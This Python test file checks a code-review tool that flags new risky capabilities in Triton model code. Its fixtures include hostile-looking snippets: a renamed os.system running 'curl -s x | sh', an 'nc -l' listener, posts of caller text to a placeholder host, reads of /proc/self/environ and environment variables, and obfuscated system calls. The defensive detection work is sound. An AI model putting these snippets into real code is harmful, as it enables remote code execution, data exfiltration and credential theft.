"""New capabilities of models' code, whatever the length of the change."""

import pytest

from review.files.file_review import compare_files

PATH = "models/a/b/1/model.py"
BASE = """
import json
import os
import numpy as np
class TritonPythonModel:
    def initialize(self, args):
        \"\"\"See https://example.com/docs.\"\"\"
        self.vocabulary = open(os.path.join(os.path.dirname(__file__), "vocabulary.txt"))
    def execute(self, requests):
        code = [np.asarray(request) for request in requests]
        return code
"""
NEW = {
    "network": ("import socket", "newly uses the network (socket): import socket (line 12)"),
    "host": (
        'import requests\nrequests.post("https://collect.example.org/x", json=1)',
        "uses the network (requests.post), names the host (collect.example.org): "
        "requests.post('https://collect.example.org/x', json=1) (line 13)",
    ),
    "renamed import": (
        "from os import system as refresh\nrefresh('curl -s x | sh')",
        "runs programs (os.system), runs programs (curl: os.system): refresh(",
    ),
    "program": (
        "import subprocess\nsubprocess.run(['nc', '-l'])",
        "(nc: subprocess.run): subprocess.run(['nc', '-l']) (line 13)",
    ),
    "exec": (
        "exec(json.loads('1'))",
        "newly runs code that it is given (exec): exec(json.loads('1')) (line 12)",
    ),
    "pickle": ("import pickle", "newly runs code that it is given (pickle)"),
    "attribute in pieces": ("getattr(os, 'sys' + 'tem')('x')", "runs programs (x: os.system)"),
    "what is sent": (
        "import socket\nbody = repr(texts)\nsocket.socket().send(body)",
        "socket.socket().send(body) (line 14) with body = repr(texts)",
    ),
    "host in pieces": (
        "import socket\nHOST = 'example.org'\nsocket.create_connection(f'https://x.{HOST}')",
        "names the host (x.example.org)",
    ),
    "packages": (
        "import os, sys\nos.system(f'{sys.executable} -m pip install crates')",
        "names the host (pypi.org)",
    ),
    "texts of callers": (
        "class B:\n    def execute(self, requests):\n        texts = [str(r) for r in requests]\n"
        "        print(f'{len(texts)} texts: {texts}')",
        "writes what callers send into its log, for all who read it (CloudWatch) (texts): print(",
    ),
    "computed attribute": ("getattr(os, os.sep)('x')", "a computed attribute"),
    "path of a request": (
        "def read(request):\n    return open(request.name)",
        "uses files outside (a computed path: open): return open(request.name)",
    ),
    "path of a request in a helper": (
        "def read(path):\n    return open(path)\nread(__file__)\nfor r in texts:\n    read(r.x)",
        "uses files outside (a computed path: open)",
    ),
    "subclasses": ("().__class__.__base__.__subclasses__()", "__subclasses__"),
    "environment": (
        "key = os.environ['AWS_CONTAINER']",
        "reads the environment (os.environ): key = os.environ",
    ),
    "files": ("open('/proc/self/environ')", "uses files outside (/proc/self/environ)"),
    "writes": ("open('state', mode='ab')", "writes or deletes files (open)"),
    "native": ("import ctypes", "runs native code (ctypes)"),
}
HARMLESS = {
    "own path": "def read(args):\n    folder = args['a']\n    return [open(x) for x in folder]",
    "own path of a helper": (
        "def read(path):\n    return open(path)\nread(os.path.join(os.path.dirname(__file__), 'a'))"
    ),
    "other names": "http = socket = eval_loss = 1\nhttp.get(socket)",
    "longer": "\n".join(f"x{number} = np.zeros({number})" for number in range(80)),
    "address in a text": "raise ValueError('see https://docs.example.com')",
    "compiled pattern": "import re\nre.compile('a')",
}


def messages(before: dict[str, str], after: dict[str, str]) -> list[str]:
    """Return message and details of the new capabilities between two sets of files."""
    base, head = ({path: text.encode() for path, text in side.items()} for side in (before, after))
    return [
        " ".join((danger.message, *danger.details))
        for danger in compare_files(base, head).dangers
        if danger.rule == "new_capabilities"
    ]


@pytest.mark.parametrize("title", NEW)
def test_new_capability_is_a_danger(title: str) -> None:
    added, text = NEW[title]
    (message,) = messages({PATH: BASE}, {PATH: BASE + added})
    assert message.startswith(f"{PATH}: the model's code newly ")
    assert text in message
    assert messages({PATH: BASE + added}, {PATH: BASE + added + "\n#"}) == []


@pytest.mark.parametrize("title", HARMLESS)
def test_code_without_a_new_capability(title: str) -> None:
    assert messages({PATH: BASE}, {PATH: BASE + HARMLESS[title]}) == []


@pytest.mark.parametrize(
    ("added", "text"),
    [
        ("client('s3', verify=False)", "the program's code newly does not verify who answers"),
        ("import subprocess\nsubprocess.run('x', shell=True)", "(a shell: shell=True)"),
        ("import urllib.request as r\nr.urlopen('https://x.dev')", "r.urlopen('https://x.dev')"),
        ("print('see https://docs.example.com')\nopen('/etc/x')", ""),
    ],
)
def test_other_programs(added: str, text: str) -> None:
    path = "constructs/triton_sagemaker/catalog_handler/index.py"
    texts = messages({path: "import boto3\n"}, {path: f"import boto3\n{added}"})
    assert [text in message for message in texts] == ([True] if text else [])


def test_moved_code_has_no_new_capability() -> None:
    code = f"{BASE}import socket"
    assert messages({PATH: code}, {PATH: BASE, "models/a/b/1/client.py": "import socket"}) == []
    assert messages({PATH: code}, {"models/renamed/b/1/model.py": code}) == []


def test_native_file_and_pickled_objects() -> None:
    files = {"models/a/b/1/libx.so": b"\x7fELF", "models/a/b/1/state.bin": b"\x80\x04"}
    rules = [danger.rule for danger in compare_files({}, files).dangers]
    assert rules.count("new_capabilities") == 2
